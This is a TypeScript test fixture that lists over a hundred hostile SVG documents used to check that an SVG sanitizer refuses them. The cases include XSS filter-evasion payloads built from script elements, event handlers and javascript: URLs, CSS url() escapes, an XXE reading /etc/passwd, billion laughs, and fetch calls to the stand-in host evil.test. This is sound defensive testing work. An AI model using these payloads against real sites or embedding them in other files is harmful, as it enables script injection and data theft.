/**
 * Hostile SVGs, written after public XSS corpora (the OWASP XSS filter-evasion cheat sheet,
 * html5sec.org's SVG vectors, PortSwigger's XSS cheat sheet, DOMPurify's bug history) and the
 * evasions of issue 12. Every payload, if it ran, would set `window.__pwned`, open a dialog or
 * fetch from `evil.test`, so the browser check can see it. Each case names the problem the
 * check reports.
 */
import type { SvgProblem } from '../../src/images/svg-safety.js';

export interface SvgCase {
  name: string;
  svg: string;
  /** What `findSvgProblem` reports. */
  problem: SvgProblem;
}

export const SVG_NS = 'http://www.w3.org/2000/svg';
export const XHTML_NS = 'http://www.w3.org/1999/xhtml';
export const XLINK_NS = 'http://www.w3.org/1999/xlink';
const PWN = 'window.__pwned=1;fetch(&quot;http://evil.test/run&quot;)';
const JS = `javascript:${PWN}`;
const EVIL = 'http://evil.test';

/** An SVG document around `inner`, with the XLink prefix declared as most files have it. */
export function svg(inner: string, attributes = '', prolog = ''): string {
  return (
    `${prolog}<svg xmlns="${SVG_NS}" xmlns:xlink="${XLINK_NS}" width="40" height="40"` +
    `${attributes}>${inner}</svg>`
  );
}

const box = '<rect width="40" height="40" fill="red"/>';
/** A raster data URL that is really an SVG with a script. */
const svgDataUrl = `data:image/svg+xml;base64,${Buffer.from(
  `<svg xmlns="${SVG_NS}" onload="window.__pwned=1"/>`,
).toString('base64')}`;

const c = (name: string, problem: SvgProblem, document: string): SvgCase => ({
  name,
  svg: document,
  problem,
});

export const EVASIONS: readonly SvgCase[] = [
  // Script elements, however named.
  c('script element', 'script', svg(`<script>${PWN}</script>`)),
  c('script in CDATA', 'script', svg(`<script><![CDATA[window.__pwned=1]]></script>`)),
  c('external script', 'script', svg(`<script href="${EVIL}/x.js"/>`)),
  c('external script by xlink:href', 'script', svg(`<script xlink:href="${EVIL}/x.js"/>`)),
  c('upper-case SCRIPT in the SVG namespace', 'script', svg(`<SCRIPT>${PWN}</SCRIPT>`)),
  c(
    'script behind a prefix bound to SVG',
    'script',
    svg(`<s:script xmlns:s="${SVG_NS}">${PWN}</s:script>`),
  ),
  c(
    'script behind a non-ASCII prefix',
    'script',
    svg(`<ſ:script xmlns:ſ="${SVG_NS}">${PWN}</ſ:script>`),
  ),
  c(
    'script behind a mixed-case non-ASCII prefix',
    'script',
    svg(`<Ǳx:sCrIpT xmlns:Ǳx="${SVG_NS}">${PWN}</Ǳx:sCrIpT>`),
  ),
  c(
    'XHTML script by default namespace redefinition',
    'script',
    svg(`<g><script xmlns="${XHTML_NS}">${PWN}</script></g>`),
  ),
  c(
    'xmlns:svg bound to XHTML',
    'script',
    svg(`<svg:script xmlns:svg="${XHTML_NS}">${PWN}</svg:script>`),
  ),
  c(
    'XHTML img with onerror',
    'event-handler',
    svg(`<h:img xmlns:h="${XHTML_NS}" src="x" onerror="${PWN}"/>`),
  ),
  c('XHTML div', 'namespace', svg(`<div xmlns="${XHTML_NS}">text</div>`)),
  c(
    'MathML element',
    'namespace',
    svg(`<m:math xmlns:m="http://www.w3.org/1998/Math/MathML"><m:mi>x</m:mi></m:math>`),
  ),
  c(
    'XHTML root with an SVG inside',
    'namespace',
    `<html xmlns="${XHTML_NS}"><body>${svg(box)}</body></html>`,
  ),
  c('root svg without the SVG namespace', 'namespace', `<svg width="4" height="4">${box}</svg>`),
  c(
    'SVG namespace with a trailing slash',
    'namespace',
    `<svg xmlns="${SVG_NS}/" width="4" height="4">${box}</svg>`,
  ),
  c(
    'SVG namespace in upper case',
    'namespace',
    svg(`<g xmlns="HTTP://WWW.W3.ORG/2000/SVG">${box}</g>`),
  ),
  c('element in the XLink namespace', 'namespace', svg(`<g xmlns="${XLINK_NS}"/>`)),
  c('unknown SVG element', 'element', svg('<blink>x</blink>')),
  c('SVG 1.1 font element', 'element', svg('<font><glyph unicode="a" d="M0 0"/></font>')),
  // Processing instructions.
  c(
    'xml-stylesheet with an XSLT data URL',
    'processing-instruction',
    svg(box, '', `<?xml-stylesheet type="text/xsl" href="data:text/xml,x"?>`),
  ),
  c(
    'xml-stylesheet with remote CSS',
    'processing-instruction',
    svg(box, '', `<?xml-stylesheet type="text/css" href="${EVIL}/x.css"?>`),
  ),
  c(
    'xml-stylesheet after the XML declaration',
    'processing-instruction',
    svg(box, '', `<?xml version="1.0"?>\n<?xml-stylesheet href="${EVIL}/x.css"?>`),
  ),
  c('processing instruction inside the root', 'processing-instruction', svg('<?php echo 1 ?>')),
  // Event handlers.
  c('onload on the root', 'event-handler', svg(box, ` onload="${PWN}"`)),
  c('OnLoad in mixed case', 'event-handler', svg(box, ` OnLoad="${PWN}"`)),
  c('ONCLICK in upper case', 'event-handler', svg(`<rect width="9" height="9" ONCLICK="${PWN}"/>`)),
  c(
    'onmouseover on a shape',
    'event-handler',
    svg(`<rect width="40" height="40" onmouseover="${PWN}"/>`),
  ),
  c('onerror on an image', 'event-handler', svg(`<image href="#x" onerror="${PWN}"/>`)),
  c('onfocus with tabindex', 'event-handler', svg(`<rect onfocus="${PWN}" tabindex="1"/>`)),
  c(
    'onanimationstart with a CSS animation',
    'event-handler',
    svg(`<rect style="animation-name:x" onanimationstart="${PWN}"/>`),
  ),
  c('ontransitionend', 'event-handler', svg(`<rect ontransitionend="${PWN}"/>`)),
  c(
    'handler attribute in another namespace',
    'event-handler',
    svg(`<rect x:onload="${PWN}" xmlns:x="urn:x"/>`),
  ),
  c(
    'handler attribute in the XHTML namespace',
    'event-handler',
    svg(`<rect h:onclick="${PWN}" xmlns:h="${XHTML_NS}"/>`),
  ),
  c('handler name with a character reference', 'malformed', svg(`<rect o&#110;load="${PWN}"/>`)),
  c(
    'XML Events handler element',
    'embedded-document',
    svg(`<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${PWN}</handler>`),
  ),
  c(
    'XML Events listener element',
    'embedded-document',
    svg(`<listener event="load" handler="#h"/>`),
  ),
  // Links.
  c('a href javascript:', 'javascript-url', svg(`<a href="${JS}">${box}</a>`)),
  c('a xlink:href javascript:', 'javascript-url', svg(`<a xlink:href="${JS}">${box}</a>`)),
  c(
    'a href with character references',
    'javascript-url',
    svg(`<a href="&#106;av&#x61;script&#58;${PWN}">${box}</a>`),
  ),
  c(
    'a href split by a tab reference',
    'javascript-url',
    svg(`<a href="java&#9;script:${PWN}">${box}</a>`),
  ),
  c(
    'a href with a leading space and newline',
    'javascript-url',
    svg(`<a href=" &#10;javascript:${PWN}">${box}</a>`),
  ),
  c('a href vbscript:', 'javascript-url', svg(`<a href="vbscript:msgbox(1)">${box}</a>`)),
  c(
    'a href data:text/html',
    'javascript-url',
    svg(`<a href="data:text/html,&lt;script&gt;${PWN}&lt;/script&gt;">${box}</a>`),
  ),
  c(
    'a href behind a non-ASCII XLink prefix',
    'javascript-url',
    svg(`<a ǅ:href="${JS}" xmlns:ǅ="${XLINK_NS}">${box}</a>`),
  ),
  c('a with only a fragment', 'link', svg(`<a href="#x">${box}</a>`)),
  c('a to another site', 'external-reference', svg(`<a href="${EVIL}/">${box}</a>`)),
  // Animation.
  c(
    'set retargeting the href of a link (refused at the link)',
    'link',
    svg(`<a href="#x"><set attributeName="href" to="${JS}"/>${box}</a>`),
  ),
  c(
    'set with attributeName by character reference',
    'href-animation',
    svg(`<use href="#r"><set attributeName="&#104;ref" to="${EVIL}/x.svg#r"/></use>`),
  ),
  c(
    'set attributeName xlink:href',
    'href-animation',
    svg(`<use xlink:href="#r"><set attributeName="xlink:href" to="${EVIL}/a.svg#r"/></use>`),
  ),
  c(
    'animate values javascript:',
    'href-animation',
    svg(`<use href="#r"><animate attributeName="href" values="${JS}" dur="0.1s"/></use>`),
  ),
  c(
    'set attributeName with white space and upper case',
    'href-animation',
    svg(`<use href="#r"><set attributeName=" HREF " to="${EVIL}/x.svg#r"/></use>`),
  ),
  c(
    'animate onbegin (PortSwigger)',
    'animation',
    svg(`<animate onbegin="${PWN}" attributeName="x" dur="0.1s"/>`),
  ),
  c('set attributeName onload', 'event-handler', svg(`<set attributeName="onload" to="${PWN}"/>`)),
  c(
    'set attributeName style',
    'animation',
    svg(`<rect><set attributeName="style" to="fill:url(${EVIL}/p)"/></rect>`),
  ),
  c(
    'animateTransform',
    'animation',
    svg(`<rect><animateTransform attributeName="transform" type="rotate" to="90"/></rect>`),
  ),
  c('animateMotion', 'animation', svg(`<rect><animateMotion path="M0 0 L9 9"/></rect>`)),
  c('discard', 'animation', svg(`<rect><discard begin="1s"/></rect>`)),
  c(
    'set behind a prefix bound to SVG',
    'href-animation',
    svg(`<s:set xmlns:s="${SVG_NS}" attributeName="href" to="${JS}"/>`),
  ),
  // Embedded documents.
  c(
    'foreignObject with XHTML',
    'foreign-object',
    svg(`<foreignObject><body xmlns="${XHTML_NS}"><script>${PWN}</script></body></foreignObject>`),
  ),
  c(
    'foreignobject in lower case',
    'foreign-object',
    svg(`<foreignobject><p>x</p></foreignobject>`),
  ),
  c(
    'XHTML iframe with javascript:',
    'embedded-document',
    svg(`<iframe xmlns="${XHTML_NS}" src="${JS}"/>`),
  ),
  c('embed', 'embedded-document', svg(`<embed xmlns="${XHTML_NS}" src="${EVIL}/x.swf"/>`)),
  c('object', 'embedded-document', svg(`<object xmlns="${XHTML_NS}" data="${EVIL}/x.html"/>`)),
  c('audio', 'embedded-document', svg(`<audio xmlns="${XHTML_NS}" src="${EVIL}/x.mp3"/>`)),
  c('video', 'embedded-document', svg(`<video src="${EVIL}/x.mp4"/>`)),
  // References to anything outside the document.
  c('use with an external URL', 'external-reference', svg(`<use href="${EVIL}/s.svg#a"/>`)),
  c('use with a relative URL', 'external-reference', svg(`<use href="other.svg#a"/>`)),
  c(
    'use xlink:href with an SVG data URL',
    'javascript-url',
    svg(`<use xlink:href="${svgDataUrl}#a"/>`),
  ),
  c(
    'use with an XML data URL',
    'external-reference',
    svg(`<use href="data:application/xml,&lt;svg/&gt;#a"/>`),
  ),
  c('image with an external URL', 'external-reference', svg(`<image href="${EVIL}/x.png"/>`)),
  c('image protocol-relative', 'external-reference', svg(`<image href="//evil.test/x.png"/>`)),
  c('image with a relative URL', 'external-reference', svg(`<image href="x.png"/>`)),
  c('image with an SVG data URL', 'javascript-url', svg(`<image href="${svgDataUrl}"/>`)),
  c('image with a spaced SVG data URL', 'javascript-url', svg(`<image href=" ${svgDataUrl}"/>`)),
  c(
    'image with an HTML data URL',
    'javascript-url',
    svg(`<image href="data:text/html;base64,PHNjcmlwdD4="/>`),
  ),
  c(
    'feImage to an outside URL',
    'external-reference',
    svg(`<filter id="f"><feImage href="${EVIL}/x.png"/></filter><rect filter="url(#f)"/>`),
  ),
  c(
    'feImage xlink:href SVG data URL',
    'javascript-url',
    svg(`<filter id="f"><feImage xlink:href="${svgDataUrl}"/></filter>`),
  ),
  c(
    'textPath to another file',
    'external-reference',
    svg(`<text><textPath href="${EVIL}/p.svg#p">x</textPath></text>`),
  ),
  c(
    'gradient inheriting from another file',
    'external-reference',
    svg(`<linearGradient id="g" href="${EVIL}/g.svg#g"/>`),
  ),
  c(
    'pattern xlink:href outside',
    'external-reference',
    svg(`<pattern id="p" xlink:href="${EVIL}/p.svg#p"/>`),
  ),
  c('xml:base on the root', 'external-reference', svg(`<use href="#a"/>`, ` xml:base="${EVIL}/"`)),
  c(
    'xml:base on a group',
    'external-reference',
    svg(`<g xml:base="${EVIL}/"><image href="x.png"/></g>`),
  ),
  c(
    'xml prefix rebound',
    'malformed',
    svg(`<g x:base="${EVIL}/" xmlns:x="http://www.w3.org/XML/1998/namespace"/>`),
  ),
  c(
    'href behind a non-ASCII prefix bound to XLink',
    'external-reference',
    svg(`<use ʜ:href="${EVIL}/s.svg#a" xmlns:ʜ="${XLINK_NS}"/>`),
  ),
  c('href in the SVG namespace', 'attribute', svg(`<use s:href="#a" xmlns:s="${SVG_NS}"/>`)),
  c(
    'xlink prefix bound to SVG',
    'attribute',
    `<svg xmlns="${SVG_NS}" xmlns:xlink="${SVG_NS}"><use xlink:href="#a"/></svg>`,
  ),
  c('unknown attribute', 'attribute', svg(`<rect formaction="${JS}"/>`)),
  c('xlink:actuate', 'attribute', svg(`<use href="#a" xlink:actuate="onLoad"/>`)),
  // CSS.
  c('style @import', 'css-at-rule', svg(`<style>@import "${EVIL}/x.css";</style>`)),
  c('style @import by escape', 'css-at-rule', svg(`<style>@\\69mport "${EVIL}/x.css";</style>`)),
  c(
    'style @IMPORT in upper case',
    'css-at-rule',
    svg(`<style>@IMPORT url(${EVIL}/x.css);</style>`),
  ),
  c(
    'style @font-face with a remote font',
    'css-at-rule',
    svg(`<style>@font-face{font-family:x;src:url(${EVIL}/f.woff)}</style>`),
  ),
  c('style @namespace', 'css-at-rule', svg(`<style>@namespace x url(${EVIL}/);</style>`)),
  c('style @media', 'css-at-rule', svg(`<style>@media all{rect{fill:red}}</style>`)),
  c('style url()', 'external-reference', svg(`<style>rect{fill:url(${EVIL}/p#g)}</style>`)),
  c(
    'style url() by escape',
    'external-reference',
    svg(`<style>rect{fill:\\75 rl(${EVIL}/p#g)}</style>`),
  ),
  c(
    'style URL() in upper case',
    'external-reference',
    svg(`<style>rect{fill:URL(${EVIL}/p)}</style>`),
  ),
  c('style quoted url()', 'external-reference', svg(`<style>rect{fill:url("${EVIL}/p")}</style>`)),
  c(
    'style url() with an escaped string',
    'external-reference',
    svg(`<style>rect{fill:url("\\68 ttp://evil.test/p")}</style>`),
  ),
  c(
    'style url() in CDATA',
    'external-reference',
    svg(`<style><![CDATA[rect{fill:url(${EVIL}/p)}]]></style>`),
  ),
  c(
    'style sheet split by a nested style',
    'element',
    svg(`<style>@import "${EVIL}/x.css";<style>rect{}</style></style>`),
  ),
  c(
    'style sheet split by a nested element',
    'element',
    svg(`<style>rect{fill:u<g/>rl(${EVIL}/p)}</style>`),
  ),
  c(
    '@import split by a comment',
    'css-at-rule',
    svg(`<style>@imp<!-- x -->ort "${EVIL}/x.css";</style>`),
  ),
  c(
    'style image-set()',
    'css-function',
    svg(`<style>rect{fill:image-set("${EVIL}/a.png" 1x)}</style>`),
  ),
  c(
    'style -webkit-image-set()',
    'css-function',
    svg(`<style>rect{background:-webkit-image-set("${EVIL}/a.png" 1x)}</style>`),
  ),
  c(
    'style image-set() by escape',
    'css-function',
    svg(`<style>rect{fill:\\69mage-set("${EVIL}/a.png" 1x)}</style>`),
  ),
  c('style image()', 'css-function', svg(`<style>rect{fill:image("${EVIL}/a.png")}</style>`)),
  c('style cross-fade()', 'css-function', svg(`<style>rect{fill:cross-fade(red, blue)}</style>`)),
  c('style element()', 'css-function', svg(`<style>rect{fill:element(#x)}</style>`)),
  c('style expression()', 'css-function', svg(`<rect style="width:expression(alert(1))"/>`)),
  c(
    'style split by a comment',
    'css-function',
    svg(`<style>rect{fill:u/**/rl(${EVIL}/p)}</style>`),
  ),
  c(
    'style attribute url()',
    'external-reference',
    svg(`<rect style="background-image:url(//evil.test/p)"/>`),
  ),
  c(
    'style attribute url() by character reference',
    'external-reference',
    svg(`<rect style="fill:u&#114;l(${EVIL}/p)"/>`),
  ),
  c(
    'style attribute url() by CSS escape',
    'external-reference',
    svg(`<rect style="fill:\\000075rl(${EVIL}/p)"/>`),
  ),
  c('-moz-binding', 'external-reference', svg(`<rect style="-moz-binding:url(${EVIL}/x.xml#x)"/>`)),
  c('behavior', 'external-reference', svg(`<rect style="behavior:url(${EVIL}/x.htc)"/>`)),
  c('fill url() outside', 'external-reference', svg(`<rect fill="url(${EVIL}/p.svg#g)"/>`)),
  c(
    'filter url() to an SVG data URL',
    'external-reference',
    svg(`<rect filter="url(${svgDataUrl}#f)"/>`),
  ),
  c('mask url() outside', 'external-reference', svg(`<rect mask="url('${EVIL}/m.svg#m')"/>`)),
  c('cursor url()', 'external-reference', svg(`<rect cursor="url(${EVIL}/c.cur), auto"/>`)),
  c('attr() in a presentation attribute', 'css-function', svg(`<rect fill="attr(data-x)"/>`)),
  c('unterminated CSS string', 'css-syntax', svg(`<style>rect{font-family:"x</style>`)),
  c('bad url token', 'css-syntax', svg(`<rect style="fill:url(a b)"/>`)),
  // XML itself.
  c(
    'DOCTYPE with an internal entity',
    'doctype',
    `<!DOCTYPE svg [<!ENTITY x "y">]>${svg('<text>&x;</text>')}`,
  ),
  c(
    'DOCTYPE with an external entity',
    'doctype',
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`,
  ),
  c(
    'DOCTYPE with a public DTD',
    'doctype',
    `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "${EVIL}/svg11.dtd">${svg(box)}`,
  ),
  c(
    'billion laughs',
    'doctype',
    `<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>${svg('<text>&b;</text>')}`,
  ),
  c('undeclared entity', 'entity', svg('<text>&xxe;</text>')),
  c(
    'XML 1.1 with a control character',
    'malformed',
    svg('<text>&#1;</text>', '', '<?xml version="1.1"?>'),
  ),
  c('100,000 nested groups', 'nesting', svg(`${'<g>'.repeat(100_000)}${'</g>'.repeat(100_000)}`)),
  c('HTML entity in XML', 'entity', svg('<text>&nbsp;</text>')),
  c('CDATA in a shape', 'cdata', svg('<g><![CDATA[<script>window.__pwned=1</script>]]></g>')),
  c('unbound prefix', 'malformed', svg('<x:script>window.__pwned=1</x:script>')),
  c('HTML-style unquoted attribute', 'malformed', svg(`<rect onload=${'alert(1)'}/>`)),
  c('two root elements', 'malformed', `${svg(box)}<script xmlns="${XHTML_NS}">${PWN}</script>`),
  c(
    'another encoding declared',
    'encoding',
    svg(box, '', '<?xml version="1.0" encoding="ISO-8859-1"?>'),
  ),
  c(
    'UTF-7',
    'encoding',
    svg('+ADw-script+AD4-alert(1)+ADw-/script+AD4-', '', '<?xml version="1.0" encoding="UTF-7"?>'),
  ),
  // Metadata is no hiding place.
  c(
    'XHTML script inside metadata',
    'script',
    svg(`<metadata><script xmlns="${XHTML_NS}">${PWN}</script></metadata>`),
  ),
  c(
    'XHTML iframe inside metadata',
    'embedded-document',
    svg(`<metadata><h:iframe xmlns:h="${XHTML_NS}" src="${JS}"/></metadata>`),
  ),
  c(
    'RDF element outside metadata',
    'namespace',
    svg(`<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/>`),
  ),
  c(
    'handler on an Inkscape element',
    'event-handler',
    svg(
      `<sodipodi:namedview xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" onload="${PWN}"/>`,
    ),
  ),
];

/** Bytes that are not UTF-8 text: refused as `encoding`. */
export const ENCODING_EVASIONS: readonly { name: string; bytes: Buffer }[] = [
  { name: 'UTF-16 with a BOM', bytes: Buffer.from(`\ufeff${svg(box)}`, 'utf16le') },
  { name: 'a NUL byte', bytes: Buffer.from(svg(`<text>\0</text>`)) },
  {
    name: 'invalid UTF-8',
    bytes: Buffer.concat([Buffer.from(svg(box)), Buffer.from([0xc3, 0x28])]),
  },
];
